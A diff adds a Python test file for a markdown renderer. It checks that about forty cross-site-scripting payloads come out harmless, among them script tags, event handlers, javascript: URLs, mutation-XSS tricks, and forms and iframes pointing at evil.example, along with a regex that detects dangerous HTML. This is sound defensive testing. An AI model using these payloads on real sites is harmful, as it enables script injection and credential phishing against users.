@@ -1,0 +1,118 @@
+"""Markdown from strangers: what it becomes, and what must not come through."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from qunclub.kernel import render_markdown
+from qunclub.kernel.text import MAX_LENGTH, plain
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='x' onerror='alert(1)' />",
+    "![x](javascript:alert(1))",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src='https://evil.example'></iframe>",
+    "<object data='x'></object><embed src='x'>",
+    "<form action='https://evil.example'><input name=password></form>",
+    "<style>body{display:none}</style>",
+    "<p style='position:fixed;inset:0'>x</p>",
+    "<base href='https://evil.example'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<div id='csrf_token' class='qc-header' hx-get='/admin' hx-trigger='load'>x</div>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "```html\n<script>alert(1)</script>\n```",
+    "`<script>alert(1)</script>`",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "# <img src=x onerror=alert(1)>",
+    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
+    "*[HTML]: <script>alert(1)</script>\n\nHTML",
+    "[^1]\n\n[^1]: <script>alert(1)</script>",
+    "p {: onclick=alert(1) }",
+    "# Title {: onclick=alert(1) style=color:red }",
+]
+DANGER = re.compile(
+    r"<\s*(script|style|iframe|object|embed|form|input|svg|math|base|meta|link|template|noscript)\b"
+    r"|<[^>]*\s(on\w+|style|class|hx-[\w-]+|data-[\w-]+)\s*="
+    r"|<[^>]*(href|src)\s*=\s*[\"']?\s*(javascript|data|vbscript):",
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize("source", ATTACKS)
+def test_attacks_come_out_harmless(source: str) -> None:
+    html = render_markdown(source)
+    assert not DANGER.search(html), html
+
+
+@pytest.mark.parametrize(
+    "source", ["<script>x</script>", "<p onclick='x'>", "<a href='javascript:x'>", "<i style='x'>"]
+)
+def test_the_danger_is_seen(source: str) -> None:
+    assert DANGER.search(source)
+
+
+@given(st.text(alphabet=st.sampled_from("<>\"'`[]()!#*_-=:;/& \n\tascriptjvonexml{}\\"), max_size=120))
+def test_whatever_is_typed_comes_out_harmless(source: str) -> None:
+    assert not DANGER.search(render_markdown(source))
+
+
+def test_what_people_write_looks_right() -> None:
+    html = render_markdown(
+        "# 标题\n\n第一行\n第二行\n\n- 一\n- 二\n\n1. x\n\n> 引用\n\n**粗** `码`\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n"
+    )
+    assert '<h2 id="s-标题">标题</h2>' in html
+    assert "第一行<br>" in html
+    for tag in ("<ul>", "<ol>", "<blockquote>", "<strong>粗</strong>", "<code>码</code>", "<table>", "<td"):
+        assert tag in html
+
+
+def test_a_page_keeps_its_only_h1() -> None:
+    assert "<h1" not in render_markdown("# one\n\n<h1>two</h1>")
+
+
+def test_headings_go_down_one_level_at_a_time() -> None:
+    html = render_markdown("## a\n#### b\n# c\n\n<h5>d</h5>\n")
+    assert re.findall(r"<(/?h\d)", html) == ["h2", "/h2", "h3", "/h3", "h2", "/h2", "h3", "/h3"]
+
+
+def test_links_do_not_vouch_for_where_they_lead() -> None:
+    html = render_markdown("[x](https://example.com) <mailto:a@example.com>")
+    assert 'href="https://example.com"' in html
+    assert "nofollow" in html and "noopener" in html
+
+
+def test_relative_links_and_pictures_stay() -> None:
+    html = render_markdown("[x](/courses/a) ![图](/static/a.png)")
+    assert 'href="/courses/a"' in html and 'src="/static/a.png"' in html and 'alt="图"' in html
+
+
+def test_a_book_is_cut() -> None:
+    assert len(render_markdown("x" * (MAX_LENGTH + 5000))) < MAX_LENGTH + 100
+
+
+def test_plain_words() -> None:
+    html = render_markdown("# 标题\n\n一 & 二 <b>粗</b> 1 < 2")
+    assert plain(html) == "标题 一 & 二 粗 1 < 2"
+    assert plain(html, 4) == "标题…"
+    assert plain("<p>&amp;lt;</p>") == "&lt;", "what was escaped twice is not unescaped twice"
